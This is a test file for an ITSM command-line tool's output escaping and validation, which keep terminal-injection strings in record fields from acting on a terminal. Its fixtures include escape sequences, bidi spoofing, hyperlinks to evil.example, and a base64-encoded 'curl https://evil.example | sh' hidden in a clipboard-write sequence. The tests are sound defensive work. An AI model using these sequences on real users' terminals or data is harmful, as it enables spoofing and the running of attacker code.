/**
 * Nothing a record says can take over a terminal: control characters, escape sequences and
 * bidirectional overrides in record values are shown as visible escapes in every command's human
 * output, JSON stays exact JSON, and validation refuses them in text fields with a message that
 * says which character, where, and to remove it.
 */
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LINE_PATTERN, printable, TEXT_PATTERN } from '../../src/core/printable.ts';
import { ALICE, BOB, gitRepo, type GitRepo } from '../helpers/git-repo.ts';
import { makeWorkspace, REPO_ROOT, runMain } from '../helpers/workspace.ts';
import { FIXTURE_NOW, fixtureFiles } from '../site/fixture.ts';

/** The attacks, by name: each one a record value that a terminal would act on if printed raw. */
const ATTACKS: Record<string, string> = {
  'OSC 8 hyperlink': '\u001b]8;;https://evil.example/\u0007Open the runbook\u001b]8;;\u0007',
  'clear screen': 'Payments\u001b[2J\u001b[H',
  'OSC 52 clipboard': 'Payments\u001b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\u0007',
  'C1 CSI': 'Payments\u009b2J',
  'bidi override': 'Payments \u202eexe.txt',
  'bidi isolate': 'Payments \u2066hidden\u2069',
  DEL: 'Pay\u007fments',
  'carriage return': 'Harmless title\rEvil title',
  'line separator': 'Payments\u2028second line',
};

/** A YAML double-quoted scalar for any text: the file itself stays plain ASCII. */
const yaml = (s: string) =>
  '"' + [...s].map((c) => (c >= ' ' && c <= '~' && c !== '"' && c !== '\\' ? c : `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)).join('') + '"';

/** What must never reach a terminal raw: the characters printable escapes, and a CR not ending a line. */
const RAW = /[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;

function expectInert(text: string): void {
  const m = RAW.exec(text);
  expect(
    m
      ? `raw U+${m[0].charCodeAt(0).toString(16).padStart(4, '0')} at ${m.index}: ${JSON.stringify(text.slice(Math.max(0, m.index - 40), m.index + 20))}`
      : 'inert',
  ).toBe('inert');
}

/** The site fixture with one attack in an incident's title, a service's name and a CI's name. */
function hostileWorkspace(attack: string): string {
  const files = fixtureFiles();
  const set = (path: string, from: string, to: string) => {
    expect(files[path]).toContain(from);
    files[path] = files[path]!.replace(from, to);
  };
  set('content/incidents/INC-0001.md', 'title: Card payments time out', `title: ${yaml(attack)}`);
  set('content/services/SVC-payments.md', 'name: Payments\n', `name: ${yaml(attack)}\n`);
  set('content/cis/CI-pg-main.md', 'name: Primary PostgreSQL cluster', `name: ${yaml(attack)}`);
  return makeWorkspace(files);
}

describe('printable: the one helper every human output goes through', () => {
  it.each(Object.entries(ATTACKS))('shows %s as visible escapes', (_name, attack) => {
    const shown = printable(attack);
    expectInert(shown);
    expect(shown).toMatch(/\\x[0-9a-f]{2}|\\u[0-9a-f]{4}|\\r/);
  });

  it('writes ESC as \\x1b and a bidi override as \\u202e, and keeps line breaks only when asked', () => {
    expect(printable('a\u001b[2Jb\u202ec\u009b')).toBe('a\\x1b[2Jb\\u202ec\\u009b');
    expect(printable('one\ntwo\r\nthree')).toBe('one\\ntwo\\r\\nthree');
    expect(printable('one\ntwo\r\nthree\rfour', { lines: true })).toBe('one\ntwo\r\nthree\\rfour');
  });

  it('leaves JSON the same JSON: its escapes are JSON escapes', () => {
    const value = { title: Object.values(ATTACKS).join(' | ') };
    const json = JSON.stringify(value, null, 2);
    expect(JSON.parse(printable(json, { lines: true }))).toEqual(value);
    expectInert(printable(json, { lines: true }));
  });
});

describe('every command shows hostile record values escaped', () => {
  const workspaces = new Map<string, string>();
  const ws = (name: string) => {
    if (!workspaces.has(name)) workspaces.set(name, hostileWorkspace(ATTACKS[name]!));
    return workspaces.get(name)!;
  };

  it.each(Object.keys(ATTACKS))('itsm validate (pretty, github, json) with %s', async (name) => {
    for (const format of ['pretty', 'github', 'json']) {
      const r = await runMain(['validate', '--format', format], { cwd: ws(name) });
      expect(r.code, format).toBe(1);
      expectInert(r.stdout + r.stderr);
    }
    const json = JSON.parse((await runMain(['validate', '--format', 'json'], { cwd: ws(name) })).stdout) as {
      diagnostics: Array<{ file: string; message: string }>;
    };
    const title = json.diagnostics.find((d) => d.file === 'content/incidents/INC-0001.md')!;
    expect(title.message).toMatch(
      /^`title` contains (a control character U\+00[0-9A-F]{2}|a bidirectional override U\+20[0-9A-F]{2}|a line break \(U\+[0-9A-F]{4}\)) at position \d+: remove it\.$/,
    );
  });

  it.each(Object.keys(ATTACKS))('itsm status, pretty and JSON, with %s', async (name) => {
    const pretty = await runMain(['status', '--now', FIXTURE_NOW], { cwd: ws(name) });
    expectInert(pretty.stdout + pretty.stderr);
    const json = await runMain(['status', '--now', FIXTURE_NOW, '--format', 'json'], { cwd: ws(name) });
    expectInert(json.stdout + json.stderr);
    expect(() => JSON.parse(json.stdout)).not.toThrow();
  });

  it.each(Object.keys(ATTACKS))('itsm impact with %s', async (name) => {
    const r = await runMain(['impact', 'CI-pg-main'], { cwd: ws(name) });
    expectInert(r.stdout + r.stderr);
  });

  it.each([
    ['sla', '--now', FIXTURE_NOW],
    ['report', '--now', FIXTURE_NOW],
    ['report', '--now', FIXTURE_NOW, '--format', 'csv'],
    ['notify', '--now', FIXTURE_NOW, '--since', '30d', '--dry-run'],
  ])('itsm %s refuses the workspace, and its diagnostics are escaped', async (...args) => {
    for (const name of Object.keys(ATTACKS)) {
      const r = await runMain(args, { cwd: ws(name), env: { ITSM_WEBHOOK_URL: '' } });
      expect(r.code, name).toBe(1);
      expectInert(r.stdout + r.stderr);
    }
  });

  it('a file name with an escape sequence is shown escaped in every format', async () => {
    const files = fixtureFiles();
    files['content/incidents/INC-0009\u001b[2J\u202e.md'] = 'not a record';
    const root = makeWorkspace(files);
    for (const format of ['pretty', 'github', 'json']) {
      const r = await runMain(['validate', '--format', format], { cwd: root });
      expectInert(r.stdout + r.stderr);
      expect(r.stdout).toMatch(/INC-0009(\\x1b|\\u001b)\[2J\\u202e\.md/);
    }
  });

  it('on a colour terminal, our colours pass and the hostile sequences do not', async () => {
    const files = fixtureFiles();
    files['content/incidents/INC-0009\u001b]8;;https:\u2215\u2215evil.example\u0007.md'] = 'not a record';
    const r = await runMain(['validate'], { cwd: makeWorkspace(files), isTTY: true, env: { NO_COLOR: undefined } });
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('INC-0009\\x1b]8;;https:');
    expect(r.stdout).toContain('\u001b[31merror  \u001b[0m');
    expect(r.stdout.replace(/\u001b\[\d+m/g, '')).not.toMatch(RAW);
    expect(r.stdout).not.toContain('\u001b]8;;');
  });

  it('an ID typed on the command line is echoed escaped in the error', async () => {
    const r = await runMain(['impact', 'CI-\u001b[2Jx'], { cwd: ws('clear screen') });
    expect(r.code).toBe(2);
    expectInert(r.stderr);
    expect(r.stderr).toContain('\\x1b[2J');
  });
});

describe('itsm history shows values from old commits escaped', () => {
  let repo: GitRepo;
  const attack = ATTACKS['OSC 52 clipboard']! + ATTACKS['bidi override']! + ATTACKS['C1 CSI']!;
  beforeAll(() => {
    repo = gitRepo();
    const files = fixtureFiles();
    repo.commit('Fixture', files, { author: ALICE, date: '2026-11-19T09:00:00+01:00' });
    const inc = files['content/incidents/INC-0001.md']!;
    repo.commit(
      'Hostile title',
      { 'content/incidents/INC-0001.md': inc.replace('title: Card payments time out', `title: ${yaml(attack)}`) },
      { author: BOB, date: '2026-11-19T10:00:00+01:00' },
    );
    repo.commit('Fix the title', { 'content/incidents/INC-0001.md': inc }, { author: ALICE, date: '2026-11-19T11:00:00+01:00' });
  });
  afterAll(() => repo.remove());

  it('pretty output escapes them', async () => {
    const r = await runMain(['history', 'INC-0001'], { cwd: repo.dir });
    expect(r.code).toBe(0);
    expectInert(r.stdout + r.stderr);
    expect(r.stdout).toContain('\\x1b]52;c;');
  });

  it('JSON output keeps the exact value', async () => {
    const r = await runMain(['history', 'INC-0001', '--format', 'json'], { cwd: repo.dir });
    expect(r.code).toBe(0);
    expectInert(r.stdout);
    expect(JSON.stringify(JSON.parse(r.stdout))).toContain(JSON.stringify(attack).slice(1, -1));
  });
});

describe('validation refuses control characters and bidi overrides in text fields', () => {
  const validate = async (files: Record<string, string>) => {
    const r = await runMain(['validate', '--format', 'json'], { cwd: makeWorkspace(files) });
    const all = (JSON.parse(r.stdout) as { diagnostics: Array<{ file: string; severity: string; message: string; hint: string; line: number }> }).diagnostics;
    return { code: r.code, diagnostics: all.filter((d) => d.severity === 'error') };
  };
  const edit = (path: string, from: string, to: string) => {
    const files = fixtureFiles();
    expect(files[path]).toContain(from);
    files[path] = files[path]!.replace(from, to);
    return files;
  };

  it('names the character and its position, and says to remove it', async () => {
    const { code, diagnostics } = await validate(edit('content/incidents/INC-0001.md', 'title: Card payments time out', 'title: "Card \\e[2J payments"'));
    expect(code).toBe(1);
    expect(diagnostics).toEqual([
      expect.objectContaining({
        file: 'content/incidents/INC-0001.md',
        message: '`title` contains a control character U+001B at position 6: remove it.',
        line: 3,
      }),
    ]);
    expect(diagnostics[0]!.hint).toMatch(/never part of text/);
  });

  it.each([
    ['a bidirectional override', 'Card \u202epayments', '`title` contains a bidirectional override U+202E at position 6: remove it.'],
    ['a bidirectional isolate', 'Card \u2067payments', '`title` contains a bidirectional override U+2067 at position 6: remove it.'],
    ['a C1 control', 'Card \u009b2Jpayments', '`title` contains a control character U+009B at position 6: remove it.'],
    ['DEL', 'Card\u007f', '`title` contains a control character U+007F at position 5: remove it.'],
    ['a line break', 'Card\npayments', '`title` contains a line break (U+000A) at position 5: remove it.'],
    ['a tab', 'Card\tpayments', '`title` contains a tab (U+0009) at position 5: remove it.'],
    ['a NUL', 'Card\u0000', '`title` contains a control character U+0000 at position 5: remove it.'],
  ])('refuses %s in a one-line field', async (_what, value, message) => {
    const { diagnostics } = await validate(edit('content/incidents/INC-0001.md', 'title: Card payments time out', `title: ${yaml(value)}`));
    expect(diagnostics.map((d) => d.message)).toEqual([message]);
  });

  it.each([
    ['a service name', 'content/services/SVC-payments.md', 'name: Payments\n', '`name`'],
    ['a CI name', 'content/cis/CI-pg-main.md', 'name: Primary PostgreSQL cluster\n', '`name`'],
    ['a team member name', 'content/teams/TEAM-payments.md', 'name: Carol Chen', '`members[0].name`'],
    ['the workspace name in itsm.yaml', 'itsm.yaml', 'name: Fixture Corp\n', '`name`'],
  ])('refuses them in %s too', async (_what, path, from, field) => {
    const to = from.replace(/: .*/, `: ${yaml('Evil\u001b]8;;https://evil.example/\u0007')}`);
    const { code, diagnostics } = await validate(edit(path, from, to));
    expect(code).not.toBe(0);
    expect(diagnostics.map((d) => d.message)).toContain(`${field} contains a control character U+001B at position 5: remove it.`);
  });

  it('allows tabs and line breaks in a multi-line field, but no other control character or override', async () => {
    const path = 'content/incidents/INC-0002.md';
    const from = 'resolution: Rolled back the frontend bundle.';
    expect((await validate(edit(path, from, `resolution: ${yaml('Rolled back.\r\n\tStep 2\nDone.')}`))).diagnostics).toEqual([]);
    expect((await validate(edit(path, from, `resolution: ${yaml('Rolled back.\n\u001b[2J')}`))).diagnostics.map((d) => d.message)).toEqual([
      '`resolution` contains a control character U+001B at position 14: remove it.',
    ]);
    expect((await validate(edit(path, from, `resolution: ${yaml('Rolled \u202eback')}`))).diagnostics.map((d) => d.message)).toEqual([
      '`resolution` contains a bidirectional override U+202E at position 8: remove it.',
    ]);
  });

  it('refuses them in a body too, which allows tabs and line breaks', async () => {
    const path = 'content/incidents/INC-0003.md';
    const body = (text: string) => {
      const files = fixtureFiles();
      files[path] = files[path]!.replace(/\n---\n[\s\S]*$/, `\n---\n\n${text}`);
      return files;
    };
    // The line after the closing `---` (a blank line, then the text).
    const bodyStart = fixtureFiles()[path]!.split('\n---\n')[0]!.split('\n').length + 2;
    expect((await validate(body('Line one\r\n\tindented\nline three\n'))).diagnostics).toEqual([]);
    expect((await validate(body('Line one\nsee \u001b]8;;https://evil.example/\u0007here\n'))).diagnostics.map((d) => d.message)).toEqual([
      `The body contains a control character U+001B at line ${bodyStart + 2}, column 5: remove it.`,
    ]);
    expect((await validate(body('Fine \u202eexe.txt\n'))).diagnostics.map((d) => d.message)).toEqual([
      `The body contains a bidirectional override U+202E at line ${bodyStart + 1}, column 6: remove it.`,
    ]);
  });

  it('the message never contains the character itself', async () => {
    const { diagnostics } = await validate(
      edit('content/incidents/INC-0001.md', 'title: Card payments time out', `title: ${yaml(ATTACKS['OSC 8 hyperlink']!)}`),
    );
    expect(diagnostics.map((d) => d.message)).toEqual(['`title` contains a control character U+001B at position 1: remove it.']);
    for (const d of diagnostics) expectInert(d.message + d.hint);
  });

  it("common.schema.json's line and text patterns are the ones the messages know", () => {
    const common = JSON.parse(readFileSync(`${REPO_ROOT}schemas/common.schema.json`, 'utf8')) as { $defs: Record<string, { pattern: string }> };
    expect(common.$defs.line!.pattern).toBe(LINE_PATTERN);
    expect(common.$defs.text!.pattern).toBe(TEXT_PATTERN);
  });
});
